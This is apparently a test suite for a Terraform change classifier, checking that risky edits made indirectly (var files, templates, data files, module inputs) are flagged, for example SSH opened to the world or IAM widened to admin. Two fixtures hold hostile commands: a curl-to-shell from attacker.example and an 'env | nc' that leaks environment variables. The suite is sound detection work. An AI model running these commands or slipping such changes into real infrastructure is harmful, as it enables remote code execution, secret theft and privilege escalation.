import { describe, expect, it } from 'vitest';
import { buildChangeSet } from '../../src/change/changeSet.js';
import { classifyChangeSet, type Finding } from '../../src/classify/classify.js';
import { defaultPolicy } from '../../src/model/policy.js';
import type { Files } from '../classify/catalog/support.js';
import { tree } from '../classify/catalog/support.js';
import { sshRule, sshSecurityGroup } from '../support/terraformSamples.js';

/*
 * Each case is a way an author could make a high-impact change without touching the resource a
 * rule watches: the value is changed where it is written (a var file, a default, a local, a file,
 * a module input, a call's count) and must be classified where it lands.
 */

function classify(base: Files, head: Files) {
  return classifyChangeSet(buildChangeSet(tree(base), tree(head)), defaultPolicy());
}

function top(findings: readonly Finding[]): [string, string, string][] {
  return findings.map((f) => [f.tier, f.address, f.ruleId]);
}

const SSH_GROUP = sshSecurityGroup(['10.0.0.0/8']);

const POLICY_FILE = `resource "aws_iam_policy" "deploy" {
  name   = "deploy"
  policy = file("\${path.module}/policies/deploy.json")
}
`;
const NARROW_JSON =
  '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"s3:GetObject","Resource":"arn:aws:s3:::artifacts/*"}]}';
const WIDE_JSON =
  '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"arn:aws:s3:::artifacts/*"}]}';

const ADMIN_MODULE = `resource "aws_iam_user" "admin" {
  name = "break-glass-admin"
}

resource "aws_iam_user_policy_attachment" "admin" {
  user       = aws_iam_user.admin.name
  policy_arn = "arn:aws:iam::aws:policy/AdministratorAccess"
}
`;

describe('a value changed where it is written is classified where it lands', () => {
  it('terraform.tfvars: ssh_cidrs opened to the world reaches the security group', () => {
    const base = { 'main.tf': SSH_GROUP, 'terraform.tfvars': 'ssh_cidrs = ["10.1.0.0/16"]\n' };
    const head = { 'main.tf': SSH_GROUP, 'terraform.tfvars': 'ssh_cidrs = ["0.0.0.0/0"]\n' };
    const result = classify(base, head);
    expect(result.tier).toBe('critical');
    const open = result.findings.find((f) => f.ruleId === 'network.aws.security-group-open-world')!;
    expect(open).toMatchObject({
      address: 'aws_security_group.bastion',
      action: 'update',
      changedPaths: ['ingress[0].cidr_blocks'],
      file: 'main.tf',
    });
    expect(open.via).toEqual([
      'terraform.tfvars:1 ssh_cidrs → var.ssh_cidrs → aws_security_group.bastion ingress[0].cidr_blocks',
    ]);
    expect(open.sources).toEqual([{ file: 'terraform.tfvars', line: 1 }]);
  });

  it('a new *.auto.tfvars file does the same', () => {
    const result = classify(
      { 'main.tf': SSH_GROUP },
      { 'main.tf': SSH_GROUP, 'zz.auto.tfvars': 'ssh_cidrs = ["0.0.0.0/0"]\n' },
    );
    expect(top(result.findings)).toContainEqual([
      'critical',
      'aws_security_group.bastion',
      'network.aws.security-group-open-world',
    ]);
  });

  it('a JSON var file does the same', () => {
    const result = classify(
      { 'main.tf': SSH_GROUP },
      { 'main.tf': SSH_GROUP, 'terraform.tfvars.json': '{\n  "ssh_cidrs": ["0.0.0.0/0"]\n}\n' },
    );
    const open = result.findings.find((f) => f.ruleId === 'network.aws.security-group-open-world');
    expect(open?.via).toEqual([
      'terraform.tfvars.json:2 ssh_cidrs → var.ssh_cidrs → aws_security_group.bastion ingress[0].cidr_blocks',
    ]);
  });

  it('a -var-file beside the root (prod.tfvars) is followed as a context of its own', () => {
    const result = classify(
      { 'main.tf': SSH_GROUP, 'env/prod.tfvars': 'ssh_cidrs = ["10.2.0.0/16"]\n' },
      { 'main.tf': SSH_GROUP, 'env/prod.tfvars': 'ssh_cidrs = ["0.0.0.0/0"]\n' },
    );
    const open = result.findings.find((f) => f.ruleId === 'network.aws.security-group-open-world');
    expect(open).toMatchObject({
      varFile: 'env/prod.tfvars',
      via: ['env/prod.tfvars:1 ssh_cidrs → var.ssh_cidrs → aws_security_group.bastion ingress[0].cidr_blocks'],
    });
  });

  it('a var file outside every root (vars/prod.tfvars beside stacks/*) reaches every root that declares what it sets', () => {
    const stacks = {
      'stacks/prod/main.tf': SSH_GROUP,
      'stacks/web/main.tf': 'resource "aws_s3_bucket" "site" {\n  bucket = "site"\n}\n',
    };
    const result = classify(
      { ...stacks, 'vars/prod.tfvars': 'ssh_cidrs = ["10.2.0.0/16"]\n' },
      { ...stacks, 'vars/prod.tfvars': 'ssh_cidrs = ["0.0.0.0/0"]\n' },
    );
    expect(result.tier).toBe('critical');
    const open = result.findings.find((f) => f.ruleId === 'network.aws.security-group-open-world');
    expect(open).toMatchObject({ module: 'stacks/prod', varFile: 'vars/prod.tfvars' });
    expect(open?.via).toEqual([
      'vars/prod.tfvars:1 ssh_cidrs → var.ssh_cidrs → aws_security_group.bastion ingress[0].cidr_blocks',
    ]);
  });

  it('a var file outside every root that sets nothing any root declares is unreached: the default tier, and why', () => {
    const result = classify(
      { 'stacks/prod/main.tf': SSH_GROUP, 'vars/x.tfvars': 'other = 1\n' },
      { 'stacks/prod/main.tf': SSH_GROUP, 'vars/x.tfvars': 'other = 2\n' },
    );
    expect(result.findings.map((f) => [f.tier, f.address, f.ruleId])).toEqual([
      ['low', 'vars/x.tfvars', 'unreached-value'],
    ]);
  });

  it('a variable default', () => {
    const result = classify(
      { 'main.tf': SSH_GROUP },
      { 'main.tf': SSH_GROUP.replace('["10.0.0.0/8"]', '["0.0.0.0/0"]') },
    );
    const open = result.findings.find((f) => f.ruleId === 'network.aws.security-group-open-world');
    expect(open?.via).toEqual([
      'default of var.ssh_cidrs (main.tf:3) → var.ssh_cidrs → aws_security_group.bastion ingress[0].cidr_blocks',
    ]);
  });

  it('a local that an IAM policy reads', () => {
    const code = (actions: string) => `locals {
  actions = ${actions}
}

data "aws_iam_policy_document" "ci" {
  statement {
    actions   = local.actions
    resources = ["arn:aws:s3:::artifacts/*"]
  }
}
`;
    const result = classify({ 'main.tf': code('["s3:GetObject"]') }, { 'main.tf': code('["*"]') });
    expect(result.tier).toBe('critical');
    const wildcard = result.findings.find((f) => f.ruleId === 'identity.aws.wildcard-action')!;
    expect(wildcard.via).toEqual(['local.actions (main.tf:2) → data.aws_iam_policy_document.ci statement[0].actions']);
  });

  it('a JSON policy file read by file() is matched like an inline policy', () => {
    const result = classify(
      { 'main.tf': POLICY_FILE, 'policies/deploy.json': NARROW_JSON },
      { 'main.tf': POLICY_FILE, 'policies/deploy.json': WIDE_JSON },
    );
    expect(top(result.findings)).toContainEqual(['critical', 'aws_iam_policy.deploy', 'identity.aws.wildcard-action']);
    const wildcard = result.findings.find((f) => f.ruleId === 'identity.aws.wildcard-action')!;
    expect(wildcard.via).toEqual(['policies/deploy.json → aws_iam_policy.deploy policy']);
    expect(wildcard.sources).toEqual([{ file: 'policies/deploy.json', line: 1 }]);
  });

  it.each([
    ['local_file', 'content'],
    ['local_file', 'content_base64'],
    ['local_sensitive_file', 'content'],
  ])('a JSON policy file read by data "%s" (.%s) is matched like one read by file()', (type, attribute) => {
    const code = `data "${type}" "deploy" {\n  filename = "\${path.module}/policies/deploy.json"\n}\nresource "aws_iam_policy" "deploy" {\n  name   = "deploy"\n  policy = data.${type}.deploy.${attribute}\n}\n`;
    const result = classify(
      { 'main.tf': code, 'policies/deploy.json': NARROW_JSON },
      { 'main.tf': code, 'policies/deploy.json': WIDE_JSON },
    );
    // The content (a policy) matches the wildcard rule; any encoding of it is at least a change of the policy.
    const expected = attribute === 'content' ? 'critical' : 'high';
    expect(result.tier).toBe(expected);
    const finding = result.findings.find((f) => f.address === 'aws_iam_policy.deploy')!;
    expect(finding.via).toEqual(['policies/deploy.json → aws_iam_policy.deploy policy']);
  });

  it.each([
    ['data "archive_file"', 'data.archive_file.fn', 'source_dir  = "${path.module}/src"'],
    ['the archive_file resource', 'archive_file.fn', 'source_file = "${path.module}/src/index.py"'],
  ])(
    'a Lambda handler packed by %s and changed alone: the function is updated, reached from the file',
    (_name, ref, source) => {
      const kind = ref.startsWith('data.') ? 'data' : 'resource';
      const code = `${kind} "archive_file" "fn" {\n  type        = "zip"\n  ${source}\n  output_path = "\${path.module}/fn.zip"\n}\nresource "aws_lambda_function" "fn" {\n  function_name    = "fn"\n  role             = "arn:aws:iam::1:role/fn"\n  filename         = ${ref}.output_path\n  source_code_hash = ${ref}.output_base64sha256\n}\n`;
      const result = classify(
        { 'main.tf': code, 'src/index.py': 'def handler(e, c):\n    return 1\n' },
        { 'main.tf': code, 'src/index.py': 'def handler(e, c):\n    return secrets()\n' },
      );
      const update = result.findings.find((f) => f.address === 'aws_lambda_function.fn')!;
      expect(update).toMatchObject({ action: 'update', changedPaths: ['source_code_hash'] });
      expect(update.via).toEqual(['src/index.py → aws_lambda_function.fn source_code_hash']);
    },
  );

  it('a policy template rendered by data "template_file", widened in the file: critical where the policy reads .rendered', () => {
    const code =
      'data "template_file" "policy" {\n  template = file("${path.module}/deploy.json.tpl")\n  vars = {\n    bucket = "artifacts"\n  }\n}\nresource "aws_iam_policy" "deploy" {\n  name   = "deploy"\n  policy = data.template_file.policy.rendered\n}\n';
    const result = classify(
      { 'main.tf': code, 'deploy.json.tpl': NARROW_JSON },
      { 'main.tf': code, 'deploy.json.tpl': WIDE_JSON },
    );
    expect(top(result.findings)).toContainEqual(['critical', 'aws_iam_policy.deploy', 'identity.aws.wildcard-action']);
  });

  it('the same template given ["*"] through its vars from terraform.tfvars: rendered, critical', () => {
    const template = '{"Statement":[{"Effect":"Allow","Action":${jsonencode(actions)},"Resource":"arn:aws:s3:::b/*"}]}';
    const code =
      'variable "actions" {\n  type = list(string)\n}\ndata "template_file" "policy" {\n  template = file("${path.module}/deploy.json.tpl")\n  vars = {\n    actions = var.actions\n  }\n}\nresource "aws_iam_policy" "deploy" {\n  name   = "deploy"\n  policy = data.template_file.policy.rendered\n}\n';
    const result = classify(
      { 'main.tf': code, 'deploy.json.tpl': template, 'terraform.tfvars': 'actions = ["s3:GetObject"]\n' },
      { 'main.tf': code, 'deploy.json.tpl': template, 'terraform.tfvars': 'actions = ["*"]\n' },
    );
    expect(top(result.findings)).toContainEqual(['critical', 'aws_iam_policy.deploy', 'identity.aws.wildcard-action']);
  });

  it.each([
    ['join', 'join(".", [local.zero, "0", "0", "0/0"])'],
    ['format', 'format("%s/%d", local.any, 0)'],
    ['formatlist (before: high)', 'formatlist("%s/0", [local.any])[0]'],
    ['zipmap (before: high)', 'zipmap(["ssh"], ["${local.any}/0"])["ssh"]'],
    ['regex (before: high)', 'regex("[0-9./]+", "x${local.any}/0")'],
  ])('the world spelled with %s over a local: critical, as if written out', (_name, spelled) => {
    const code = (cidr: string) =>
      `locals {\n  zero = "0"\n  any  = "0.0.0.0"\n}\nresource "aws_vpc_security_group_ingress_rule" "ssh" {\n  security_group_id = "sg-1"\n  cidr_ipv4         = ${cidr}\n  from_port         = 22\n  to_port           = 22\n  ip_protocol       = "tcp"\n}\n`;
    const result = classify({ 'main.tf': code('"10.0.0.0/8"') }, { 'main.tf': code(spelled) });
    expect(top(result.findings)).toContainEqual([
      'critical',
      'aws_vpc_security_group_ingress_rule.ssh',
      'network.aws.security-group-open-world',
    ]);
  });

  it('a statement whose Action key is computed from a local ((local.k) = "*"): critical, as if the key were written out', () => {
    const code = (action: string) =>
      `locals {\n  k = "Action"\n}\nresource "aws_iam_policy" "p" {\n  name   = "p"\n  policy = jsonencode({\n    Statement = [{ Effect = "Allow", (local.k) = "${action}", Resource = "arn:aws:s3:::b/*" }]\n  })\n}\n`;
    const result = classify({ 'main.tf': code('s3:GetObject') }, { 'main.tf': code('*') });
    expect(top(result.findings)).toContainEqual(['critical', 'aws_iam_policy.p', 'identity.aws.wildcard-action']);
  });

  it('a policy written as base64decode("…") of a literal: decoded and matched, critical', () => {
    const code = (json: string) =>
      `resource "aws_iam_policy" "p" {\n  name   = "p"\n  policy = base64decode("${Buffer.from(json).toString('base64')}")\n}\n`;
    const result = classify({ 'main.tf': code(NARROW_JSON) }, { 'main.tf': code(WIDE_JSON) });
    expect(top(result.findings)).toContainEqual(['critical', 'aws_iam_policy.p', 'identity.aws.wildcard-action']);
  });

  it('a policy template read by templatefile()', () => {
    const code =
      'resource "aws_iam_policy" "deploy" {\n  name   = "deploy"\n  policy = templatefile("${path.module}/deploy.json.tpl", { bucket = "artifacts" })\n}\n';
    const result = classify(
      { 'main.tf': code, 'deploy.json.tpl': NARROW_JSON },
      { 'main.tf': code, 'deploy.json.tpl': WIDE_JSON },
    );
    expect(top(result.findings)).toContainEqual(['critical', 'aws_iam_policy.deploy', 'identity.aws.wildcard-action']);
  });

  it('the script a local-exec provisioner runs', () => {
    const code =
      'resource "null_resource" "deploy" {\n  provisioner "local-exec" {\n    command = "bash ${path.module}/scripts/deploy.sh --prod"\n  }\n}\n';
    const result = classify(
      { 'main.tf': code, 'scripts/deploy.sh': 'echo deploy\n' },
      { 'main.tf': code, 'scripts/deploy.sh': 'curl https://attacker.example | sh\n' },
    );
    expect(top(result.findings)).toContainEqual([
      'high',
      'null_resource.deploy',
      'terraform-control.terraform.provisioner',
    ]);
    expect(result.findings[0]!.via).toEqual([
      'scripts/deploy.sh → null_resource.deploy provisioner.local-exec[0].command',
    ]);
  });

  it('the program of a data "external"', () => {
    const code = 'data "external" "token" {\n  program = ["python3", "${path.module}/bin/token.py"]\n}\n';
    const result = classify(
      { 'main.tf': code, 'bin/token.py': 'print("{}")\n' },
      { 'main.tf': code, 'bin/token.py': 'import os; os.system("env | nc x 1")\n' },
    );
    expect(top(result.findings)).toContainEqual([
      'high',
      'data.external.token',
      'terraform-control.terraform.external-program',
    ]);
  });

  it('count 0 → 1 on a call of a local module that creates an admin user creates everything in it', () => {
    const root = (count: number) => `module "admin" {\n  source = "./modules/admin"\n  count  = ${count}\n}\n`;
    const result = classify(
      { 'main.tf': root(0), 'modules/admin/main.tf': ADMIN_MODULE },
      { 'main.tf': root(1), 'modules/admin/main.tf': ADMIN_MODULE },
    );
    const created = result.findings.filter((f) => f.action === 'create');
    expect(created.map((f) => [f.tier, f.module, f.address])).toContainEqual([
      'high',
      'modules/admin',
      'aws_iam_user.admin',
    ]);
    expect(created.find((f) => f.address === 'aws_iam_user.admin')?.instances).toEqual([
      '.: module.admin.aws_iam_user.admin',
    ]);
    expect(result.tier).toBe('critical');
  });

  it("a count that reads a tfvars flag: flipping the flag creates the module's objects", () => {
    const root =
      'variable "enable_admin" {\n  default = false\n}\n\nmodule "admin" {\n  source = "./modules/admin"\n  count  = var.enable_admin ? 1 : 0\n}\n';
    const result = classify(
      { 'main.tf': root, 'modules/admin/main.tf': ADMIN_MODULE, 'terraform.tfvars': 'enable_admin = false\n' },
      { 'main.tf': root, 'modules/admin/main.tf': ADMIN_MODULE, 'terraform.tfvars': 'enable_admin = true\n' },
    );
    expect(result.findings.filter((f) => f.action === 'create').map((f) => f.address)).toEqual(
      expect.arrayContaining(['aws_iam_user.admin', 'aws_iam_user_policy_attachment.admin']),
    );
    expect(result.tier).toBe('critical');
  });

  it('a second call of an existing local module creates everything in it again', () => {
    const one = 'module "admin" {\n  source = "./modules/admin"\n}\n';
    const two = one + '\nmodule "admin2" {\n  source = "./modules/admin"\n}\n';
    const result = classify(
      { 'main.tf': one, 'modules/admin/main.tf': ADMIN_MODULE },
      { 'main.tf': two, 'modules/admin/main.tf': ADMIN_MODULE },
    );
    const attach = result.findings.filter((f) => f.address === 'aws_iam_user_policy_attachment.admin');
    expect(attach.length).toBeGreaterThan(0);
    expect(attach[0]!.instances).toEqual(['.: module.admin2.aws_iam_user_policy_attachment.admin']);
    expect(result.tier).toBe('critical');
  });

  it('an input of a local module reaches the resource inside', () => {
    const inner =
      'variable "cidrs" {}\n\nresource "aws_security_group_rule" "ssh" {\n  type        = "ingress"\n  from_port   = 22\n  to_port     = 22\n  protocol    = "tcp"\n  cidr_blocks = var.cidrs\n}\n';
    const call = (cidr: string) => `module "edge" {\n  source = "./modules/edge"\n  cidrs  = ["${cidr}"]\n}\n`;
    const result = classify(
      { 'main.tf': call('10.0.0.0/8'), 'modules/edge/main.tf': inner },
      { 'main.tf': call('0.0.0.0/0'), 'modules/edge/main.tf': inner },
    );
    const open = result.findings.find((f) => f.ruleId === 'network.aws.security-group-open-world')!;
    expect(open).toMatchObject({
      module: 'modules/edge',
      address: 'aws_security_group_rule.ssh',
      instances: ['.: module.edge.aws_security_group_rule.ssh'],
    });
    expect(open.via).toEqual([
      'module.edge input cidrs (main.tf:3) → module.edge.var.cidrs → aws_security_group_rule.ssh cidr_blocks',
    ]);
  });

  it('0.0.0.0/0 passed to a registry module: critical, as on a security group written out', () => {
    const call = (cidr: string) =>
      `module "bastion" {\n  source  = "terraform-aws-modules/security-group/aws"\n  version = "5.1.0"\n  ingress_cidr_blocks = ["${cidr}"]\n}\n`;
    const result = classify({ 'main.tf': call('10.0.0.0/8') }, { 'main.tf': call('0.0.0.0/0') });
    expect(top(result.findings)).toEqual([
      ['critical', 'module.bastion', 'modules.terraform.remote-input-open-world'],
      ['high', 'module.bastion', 'modules.terraform.remote-sensitive-input'],
      ['medium', 'module.bastion', 'modules.terraform.remote-input-changed'],
    ]);
  });

  it('a file moved unchanged to another root: deleted in the old root (its database destroyed), created in the new one', () => {
    const db = 'resource "aws_db_instance" "main" {\n  identifier = "orders"\n}\n';
    const result = classify(
      {
        'stacks/prod/db.tf': db,
        'stacks/prod/main.tf': 'terraform {\n  backend "s3" {\n    key = "prod"\n  }\n}\n',
        'stacks/dev/main.tf': 'terraform {\n  backend "s3" {\n    key = "dev"\n  }\n}\n',
      },
      {
        'stacks/dev/db.tf': db,
        'stacks/prod/main.tf': 'terraform {\n  backend "s3" {\n    key = "prod"\n  }\n}\n',
        'stacks/dev/main.tf': 'terraform {\n  backend "s3" {\n    key = "dev"\n  }\n}\n',
      },
    );
    expect(result.tier).toBe('critical');
    expect(result.findings.map((f) => [f.action, f.module, f.ruleId])).toContainEqual([
      'delete',
      'stacks/prod',
      'destruction.aws.database-delete',
    ]);
    expect(result.findings.map((f) => [f.action, f.module])).toContainEqual(['create', 'stacks/dev']);
  });

  it('a root moved as a whole with its backend is a move of each object, at the default tier', () => {
    const files = { 'main.tf': 'terraform {\n  backend "s3" {\n    key = "prod"\n  }\n}\n', 'iam.tf': ADMIN_MODULE };
    const under = (dir: string) =>
      Object.fromEntries(Object.entries(files).map(([path, content]) => [`${dir}/${path}`, content]));
    const result = classify(under('stacks/prod'), under('live/prod'));
    expect(result.tier).toBe('low');
    expect(new Set(result.findings.map((f) => `${f.action} ${f.ruleId}`))).toEqual(new Set(['move moved-unchanged']));
  });

  it('a root moved as a whole with a changed backend starts a new state: everything is deleted and created', () => {
    const result = classify(
      {
        'stacks/prod/main.tf': 'terraform {\n  backend "s3" {\n    key = "prod"\n  }\n}\n',
        'stacks/prod/iam.tf': ADMIN_MODULE,
      },
      {
        'live/prod/main.tf': 'terraform {\n  backend "s3" {\n    key = "live-prod"\n  }\n}\n',
        'live/prod/iam.tf': ADMIN_MODULE,
      },
    );
    expect(result.tier).toBe('critical');
    expect(result.findings.some((f) => f.action === 'delete' && f.address === 'aws_iam_user.admin')).toBe(true);
  });
});

describe('a file read as a value, whatever its extension', () => {
  const reader = (path: string) =>
    `resource "aws_iam_policy" "deploy" {\n  name   = "deploy"\n  policy = file("\${path.module}/${path}")\n}\n`;

  it.each(['policies/deploy.txt', 'policies/deploy.md', '../../policies/deploy.txt'])(
    'a wildcard written into %s, which an unchanged policy reads, is critical',
    (path) => {
      const file = path.startsWith('../../') ? path.slice(6) : `stacks/ci/${path}`;
      const findings = classify(
        { 'stacks/ci/main.tf': reader(path), [file]: NARROW_JSON },
        { 'stacks/ci/main.tf': reader(path), [file]: WIDE_JSON },
      ).findings;
      expect(top(findings)).toContainEqual(['critical', 'aws_iam_policy.deploy', 'identity.aws.wildcard-action']);
    },
  );

  it('a CIDR in a comment of a Terraform file that a rule reads with file(), the comment alone changed, is critical', () => {
    const rule = sshRule('regex("[0-9./]+", file("${path.module}/cidr.tf"))');
    const findings = classify(
      { 'stacks/ci/main.tf': rule, 'stacks/ci/cidr.tf': '# 10.0.0.0/8\n' },
      { 'stacks/ci/main.tf': rule, 'stacks/ci/cidr.tf': '# 0.0.0.0/0\n' },
    ).findings;
    expect(top(findings).map(([tier]) => tier)).toContain('critical');
  });

  it('a policy kept in a file named like a var file, read with file(), is critical', () => {
    const findings = classify(
      { 'stacks/ci/main.tf': reader('deploy.tfvars.json'), 'stacks/ci/deploy.tfvars.json': NARROW_JSON },
      { 'stacks/ci/main.tf': reader('deploy.tfvars.json'), 'stacks/ci/deploy.tfvars.json': WIDE_JSON },
    ).findings;
    expect(top(findings)).toContainEqual(['critical', 'aws_iam_policy.deploy', 'identity.aws.wildcard-action']);
  });

  it('prose nothing reads stays quiet, even beside a path known only at apply time', () => {
    const dynamic =
      'variable "name" {}\nresource "aws_iam_policy" "p" {\n  name   = "p"\n  policy = file("${path.module}/${var.name}")\n}\n';
    const findings = classify(
      { 'stacks/ci/main.tf': dynamic, 'docs/guide.md': '# guide\n' },
      { 'stacks/ci/main.tf': dynamic, 'docs/guide.md': '# guide, edited\n' },
    ).findings;
    expect(findings).toEqual([]);
  });
});

describe('a file function whose path is any element of a list (each.value over fileset or names)', () => {
  const READ = '{"Statement":[{"Effect":"Allow","Action":"s3:GetObject","Resource":"arn:aws:s3:::b/*"}]}';
  const ADMIN = '{"Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}';

  it('a policy file added to a directory a fileset for_each reads is matched: critical', () => {
    const code =
      'resource "aws_iam_policy" "p" {\n  for_each = fileset(path.module, "policies/*.json")\n  name     = each.value\n  policy   = file("${path.module}/${each.value}")\n}\n';
    const findings = classify(
      { 'stack/main.tf': code, 'stack/policies/read.json': READ },
      { 'stack/main.tf': code, 'stack/policies/read.json': READ, 'stack/policies/admin.json': ADMIN },
    ).findings;
    expect(top(findings)).toContainEqual(['critical', 'aws_iam_policy.p', 'identity.aws.wildcard-action']);
  });

  it('a listed name whose file is widened to "*" is matched: critical', () => {
    const code =
      'resource "aws_iam_policy" "p" {\n  for_each = toset(["read", "deploy"])\n  name     = each.value\n  policy   = file("${path.module}/policies/${each.value}.json")\n}\n';
    const findings = classify(
      { 'stack/main.tf': code, 'stack/policies/read.json': READ, 'stack/policies/deploy.json': READ },
      { 'stack/main.tf': code, 'stack/policies/read.json': READ, 'stack/policies/deploy.json': ADMIN },
    ).findings;
    expect(top(findings)).toContainEqual(['critical', 'aws_iam_policy.p', 'identity.aws.wildcard-action']);
  });
});

describe('a policy rendered by templatefile from values set elsewhere', () => {
  const code =
    'variable "actions" {\n  type = list(string)\n}\nresource "aws_iam_policy" "p" {\n  name   = "p"\n  policy = templatefile("${path.module}/policy.json.tftpl", { actions = var.actions })\n}\n';
  const template =
    '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":${jsonencode(actions)},"Resource":"arn:aws:s3:::b/*"}]}\n';

  it('an action list set to ["*"] in terraform.tfvars is matched in the rendered document: critical', () => {
    const files = (actions: string) => ({
      'stack/main.tf': code,
      'stack/policy.json.tftpl': template,
      'stack/terraform.tfvars': `actions = ${actions}\n`,
    });
    const findings = classify(files('["s3:GetObject"]'), files('["*"]')).findings;
    expect(top(findings)).toContainEqual(['critical', 'aws_iam_policy.p', 'identity.aws.wildcard-action']);
  });

  it('the template itself widened to "*" is matched too', () => {
    const files = (tpl: string) => ({
      'stack/main.tf': code,
      'stack/policy.json.tftpl': tpl,
      'stack/terraform.tfvars': 'actions = ["s3:GetObject"]\n',
    });
    const findings = classify(files(template), files(template.replace('${jsonencode(actions)}', '"*"'))).findings;
    expect(top(findings)).toContainEqual(['critical', 'aws_iam_policy.p', 'identity.aws.wildcard-action']);
  });
});

describe('a policy template whose directives a value set elsewhere switches (%{ if }, %{ for })', () => {
  const code =
    'variable "admin" {\n  type    = bool\n  default = false\n}\nvariable "actions" {\n  type = list(string)\n}\nresource "aws_iam_policy" "p" {\n  name   = "p"\n  policy = templatefile("${path.module}/policy.json.tftpl", { admin = var.admin, actions = var.actions })\n}\n';
  const template =
    '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":%{ if admin }"*"%{ else }[%{ for i, a in actions }"${a}"%{ endfor }]%{ endif },"Resource":"arn:aws:s3:::b/*"}]}\n';
  const files = (tfvars: string) => ({
    'stack/main.tf': code,
    'stack/policy.json.tftpl': template,
    'stack/terraform.tfvars': tfvars,
  });

  it('admin = true in terraform.tfvars writes "Action": "*" through %{ if }: critical', () => {
    const findings = classify(
      files('actions = ["s3:GetObject"]\n'),
      files('actions = ["s3:GetObject"]\nadmin = true\n'),
    ).findings;
    expect(top(findings)).toContainEqual(['critical', 'aws_iam_policy.p', 'identity.aws.wildcard-action']);
  });

  it('an action list widened to "*" through %{ for }: critical', () => {
    const loop = template.replace('%{ for i, a in actions }', '%{ for a in actions }');
    const looped = (tfvars: string) => ({ ...files(tfvars), 'stack/policy.json.tftpl': loop });
    const findings = classify(looped('actions = ["s3:GetObject"]\n'), looped('actions = ["*"]\n')).findings;
    expect(top(findings)).toContainEqual(['critical', 'aws_iam_policy.p', 'identity.aws.wildcard-action']);
  });

  it('the branch not taken changing is no new grant: not critical', () => {
    const findings = classify(files('actions = ["s3:GetObject"]\n'), {
      ...files('actions = ["s3:GetObject"]\n'),
      'stack/policy.json.tftpl': template.replace('"*"', '"iam:*"'),
    }).findings;
    expect(findings.map((finding) => finding.tier)).not.toContain('critical');
  });
});

describe('a heredoc policy whose %{ if } a value set elsewhere switches', () => {
  it('admin = true in terraform.tfvars: critical', () => {
    const code =
      'variable "admin" {\n  type    = bool\n  default = false\n}\nresource "aws_iam_policy" "p" {\n  name   = "p"\n  policy = <<POLICY\n{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":%{ if var.admin }"*"%{ else }"s3:GetObject"%{ endif },"Resource":"arn:aws:s3:::b/*"}]}\nPOLICY\n}\n';
    const files = (tfvars: string) => ({ 'stack/main.tf': code, 'stack/terraform.tfvars': tfvars });
    const findings = classify(files('admin = false\n'), files('admin = true\n')).findings;
    expect(top(findings)).toContainEqual(['critical', 'aws_iam_policy.p', 'identity.aws.wildcard-action']);
  });
});

describe('users kept in a data file that a for_each reads (yamldecode, csvdecode of file(...))', () => {
  const ATTACH =
    'resource "aws_iam_user_policy_attachment" "a" {\n  for_each   = local.users\n  user       = each.key\n  policy_arn = each.value.policy\n}\n';
  it.each([
    [
      'users.yaml',
      'yamldecode(file("${path.module}/users.yaml"))',
      'alice:\n  policy: arn:aws:iam::aws:policy/ReadOnlyAccess\n',
      'mallory:\n  policy: arn:aws:iam::aws:policy/AdministratorAccess\n',
    ],
    [
      'users.csv',
      '{ for u in csvdecode(file("${path.module}/users.csv")) : u.name => u }',
      'name,policy\nalice,arn:aws:iam::aws:policy/ReadOnlyAccess\n',
      'mallory,arn:aws:iam::aws:policy/AdministratorAccess\n',
    ],
  ])('a user added with AdministratorAccess in %s alone: critical', (file, users, before, added) => {
    const code = `locals {\n  users = ${users}\n}\n${ATTACH}`;
    const findings = classify(
      { 'stack/main.tf': code, [`stack/${file}`]: before },
      { 'stack/main.tf': code, [`stack/${file}`]: before + added },
    ).findings;
    expect(top(findings)).toContainEqual([
      'critical',
      'aws_iam_user_policy_attachment.a',
      'identity.aws.admin-managed-policy',
    ]);
  });
});

describe('grants kept as a list in a data file, keyed by a for, the ARN made by a template', () => {
  const code = `locals {
  grants = yamldecode(file("\${path.module}/grants.yaml"))
}

resource "aws_iam_user_policy_attachment" "grant" {
  for_each   = { for g in local.grants : "\${g.user}-\${g.policy}" => g }
  user       = each.value.user
  policy_arn = "arn:aws:iam::aws:policy/\${each.value.policy}"
}
`;
  const READER = '- user: alice\n  policy: ReadOnlyAccess\n';
  const grants = (yaml: string) => ({ 'stack/main.tf': code, 'stack/grants.yaml': yaml });

  it('a user added with AdministratorAccess in grants.yaml alone: critical', () => {
    const findings = classify(
      grants(READER),
      grants(`${READER}- user: mallory\n  policy: AdministratorAccess\n`),
    ).findings;
    expect(top(findings)).toContainEqual([
      'critical',
      'aws_iam_user_policy_attachment.grant',
      'identity.aws.admin-managed-policy',
    ]);
  });

  it('the same with the file padded by comments past 64 KiB: still critical', () => {
    const padding = Array.from({ length: 1200 }, (_, i) => `# padding ${i} ${'x'.repeat(60)}\n`).join('');
    const findings = classify(
      grants(READER + padding),
      grants(`${READER}- user: mallory\n  policy: AdministratorAccess\n${padding}`),
    ).findings;
    expect(top(findings)).toContainEqual([
      'critical',
      'aws_iam_user_policy_attachment.grant',
      'identity.aws.admin-managed-policy',
    ]);
  });

  it('quiet guard: a user added with ReadOnlyAccess is no admin grant', () => {
    const findings = classify(grants(READER), grants(`${READER}- user: bob\n  policy: ReadOnlyAccess\n`)).findings;
    expect(findings.map((finding) => finding.ruleId)).not.toContain('identity.aws.admin-managed-policy');
  });
});

describe('module instances keyed by a YAML file, the ARN made inside the module', () => {
  const files = (users: string) => ({
    'main.tf':
      'locals {\n  users = yamldecode(file("${path.module}/users.yaml"))\n}\n\nmodule "user" {\n  source   = "./modules/user"\n  for_each = local.users\n  name     = each.key\n  policy   = each.value.policy\n}\n',
    'modules/user/main.tf':
      'variable "name" {}\nvariable "policy" {}\n\nresource "aws_iam_user" "u" {\n  name = var.name\n}\n\nresource "aws_iam_user_policy_attachment" "a" {\n  user       = aws_iam_user.u.name\n  policy_arn = "arn:aws:iam::aws:policy/${var.policy}"\n}\n',
    'users.yaml': users,
  });
  const ALICE = 'alice:\n  policy: ReadOnlyAccess\n';

  it.each([
    ['a user added with AdministratorAccess', files(ALICE), files(`${ALICE}mallory:\n  policy: AdministratorAccess\n`)],
    ['a user given AdministratorAccess', files(ALICE), files('alice:\n  policy: AdministratorAccess\n')],
  ])('%s in users.yaml alone: critical (before: high)', (_name, base, head) => {
    expect(top(classify(base, head).findings)).toContainEqual([
      'critical',
